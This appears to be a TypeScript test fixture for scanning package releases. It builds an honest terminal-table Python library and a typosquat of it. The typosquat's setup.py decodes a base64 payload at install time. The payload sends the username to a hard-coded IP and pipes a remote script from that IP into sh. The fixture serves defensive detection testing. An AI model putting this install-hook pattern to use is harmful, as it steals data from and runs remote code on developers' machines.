// Synthetic packages for end-to-end scans: an honest small library, and a typosquat of it whose setup.py
// runs a base64-hidden payload at install time. Written for the tests; nothing here comes from the corpus.
import { servedRelease } from '../servers/index-server.js';

const README = `# tidy-tables

Tidy tables prints aligned, wrapped tables in the terminal. It has no dependencies beyond wcwidth and
works with any iterable of rows. See the documentation for colours, borders and column alignment.
`;

const LAYOUT = `"""Column layout: widths, wrapping and alignment."""
from __future__ import annotations

import textwrap
from dataclasses import dataclass, field
from typing import Iterable, Sequence


@dataclass
class Column:
    """One column of a table: its title, alignment and the widest cell seen so far."""

    title: str
    align: str = "left"
    width: int = 0
    wrap: bool = True
    cells: list[str] = field(default_factory=list)

    def add(self, value: object) -> None:
        text = "" if value is None else str(value)
        self.cells.append(text)
        self.width = max(self.width, len(text), len(self.title))

    def render(self, text: str, width: int) -> list[str]:
        lines = textwrap.wrap(text, width) if self.wrap and len(text) > width else [text]
        if self.align == "right":
            return [line.rjust(width) for line in lines] or [" " * width]
        if self.align == "center":
            return [line.center(width) for line in lines] or [" " * width]
        return [line.ljust(width) for line in lines] or [" " * width]


def layout(rows: Iterable[Sequence[object]], titles: Sequence[str], max_width: int = 100) -> list[Column]:
    """Measure every cell and shrink the widest columns until the table fits in max_width."""
    columns = [Column(t) for t in titles]
    for row in rows:
        for column, value in zip(columns, row):
            column.add(value)
    while sum(c.width for c in columns) + 3 * (len(columns) - 1) > max_width:
        widest = max(columns, key=lambda c: c.width)
        if widest.width <= 8:
            break
        widest.width -= 1
    return columns
`;

const BORDERS = `"""Border styles for tables."""

STYLES = {
    "plain": {"horizontal": "-", "vertical": "|", "corner": "+"},
    "double": {"horizontal": "=", "vertical": "||", "corner": "#"},
}


def border(style: str, widths: list[int]) -> str:
    """The line drawn above and below a table in the given style."""
    chars = STYLES.get(style, STYLES["plain"])
    return chars["corner"] + chars["corner"].join(chars["horizontal"] * (w + 2) for w in widths) + chars["corner"]
`;

const PYPROJECT = (name: string) => `[build-system]
requires = ["setuptools>=68"]
build-backend = "setuptools.build_meta"

[project]
name = "${name}"
version = "1.4.2"
description = "Format tables for terminals"
readme = "README.md"
license = { text = "MIT" }
authors = [{ name = "Ada Example", email = "ada@example.org" }]
requires-python = ">=3.9"
dependencies = ["wcwidth>=0.2"]
classifiers = [
  "Programming Language :: Python :: 3",
  "License :: OSI Approved :: MIT License",
  "Environment :: Console",
]

[project.urls]
Homepage = "https://github.com/example/${name}"
Documentation = "https://${name}.readthedocs.io"
`;

export function honestRelease(name: string, version: string) {
  return servedRelease(name, version, {
    summary: 'Format tables for terminals',
    files: {
      'README.md': README,
      LICENSE: 'MIT License\n\nCopyright (c) 2024 Ada Example\n',
      [`${name.replace(/-/g, '_')}/__init__.py`]:
        '"""Tidy tables."""\nfrom .render import render\n\n__all__ = ["render"]\n__version__ = "1.4.2"\n',
      [`${name.replace(/-/g, '_')}/render.py`]: [
        'import shutil',
        '',
        '',
        'def render(rows, sep=" | "):',
        '    """Render rows as aligned text, cut to the terminal width."""',
        '    rows = [[str(c) for c in r] for r in rows]',
        '    widths = [max(len(r[i]) for r in rows) for i in range(len(rows[0]))] if rows else []',
        '    width = shutil.get_terminal_size().columns',
        '    lines = [sep.join(c.ljust(w) for c, w in zip(r, widths)) for r in rows]',
        '    return "\\n".join(line[:width] for line in lines)',
        '',
      ].join('\n'),
      [`${name.replace(/-/g, '_')}/layout.py`]: LAYOUT,
      [`${name.replace(/-/g, '_')}/borders.py`]: BORDERS,
      'docs/index.md': `${README}\n## Usage\n\nCall render(rows) with any iterable of rows.\n`,
      'pyproject.toml': PYPROJECT(name),
      'tests/test_render.py':
        'from tidy_tables import render\n\n\ndef test_render():\n    assert render([["a", "b"]]) == "a | b"\n',
    },
  });
}

const PAYLOAD = Buffer.from(
  'import os, socket, getpass\ns = socket.create_connection(("198.51.100.23", 4444))\ns.send(getpass.getuser().encode())\nos.system("curl -s http://198.51.100.23/x.sh | sh")\n',
).toString('base64');

/** A typosquat whose setup.py decodes and runs a payload during `pip install`. */
export function maliciousRelease(name: string, version: string, snippetMarker = '') {
  return servedRelease(name, version, {
    summary: 'Format tables for terminals',
    files: {
      'setup.py': [
        'from setuptools import setup',
        'from setuptools.command.install import install',
        'import base64',
        '',
        '',
        'class PostInstall(install):',
        '    def run(self):',
        `        exec(base64.b64decode("${PAYLOAD}"))${snippetMarker}`,
        '        install.run(self)',
        '',
        '',
        `setup(name="${name}", version="${version}", cmdclass={"install": PostInstall})`,
        '',
      ].join('\n'),
      [`${name.replace(/-/g, '_')}/__init__.py`]: '',
    },
  });
}
